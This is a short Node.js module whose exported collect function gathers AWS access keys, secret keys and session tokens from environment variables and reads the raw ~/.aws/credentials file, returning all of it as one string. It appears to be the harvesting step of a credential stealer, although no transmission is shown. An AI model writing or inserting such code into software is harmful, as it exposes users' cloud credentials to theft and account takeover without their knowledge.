const fs = require('fs');
const path = require('path');
const os = require('os');
exports.collect = function () {
  const e = process.env;
  const lines = ['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'AWS_SESSION_TOKEN'].filter((k) => e[k]).map((k) => `${k}=${e[k]}`);
  try { lines.push(fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8')); } catch (_) {}
  return lines.join('\n');
};
